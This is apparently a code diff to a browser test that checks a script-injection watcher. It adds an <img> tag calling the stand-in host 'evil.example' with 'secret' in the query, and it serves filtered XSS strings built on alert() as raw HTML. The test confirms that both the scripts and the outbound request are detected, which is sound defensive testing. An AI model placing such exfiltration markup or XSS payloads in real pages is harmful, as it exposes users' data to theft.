@@ -17,6 +17,7 @@ const LONGEST_WITHOUT_A_LIMIT = 60
 const FONT = new URL('../sample-site/public/fonts/inter-latin.woff2', import.meta.url)
 const MOST_SAMPLES = 500
 const LONGEST_SAMPLE = 5_000
+const ELSEWHERE = 'https://evil.example/?words=secret'
 
 /** Opens screens one after the other and says what in them is not mere text. */
 /** Parts of a screen come a moment after its title, the lower ones with the first sign of a hand. */
@@ -215,9 +216,12 @@ test('the watch fires: the same words put into a page as markup run, or are held
   const ran = watchForScripts(context)
   const acting = hostileStrings().filter((text) => /<(?:img|svg|script|body|video|audio)\b[^>]*alert\(/i.test(text) && !/location|document\.write/i.test(text))
   expect(acting.length).toBeGreaterThan(50)
-  await page.route('**/raw', (route) => route.fulfill({ contentType: 'text/html', body: `<!doctype html><title>Raw</title>${acting.slice(0, 60).join('\n')}` }))
+  await page.route('**/raw', (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<!doctype html><title>Raw</title><img src="${ELSEWHERE}">${acting.slice(0, 60).join('\n')}` }),
+  )
   await page.goto('/raw')
   await expect.poll(() => ran.filter((one) => one.startsWith('dialog')).length).toBeGreaterThan(0)
+  await expect.poll(() => ran).toContain(`request: ${ELSEWHERE}`)
   expect((await liveMarkup(page)).length).toBeGreaterThan(5)
 
   ran.length = 0
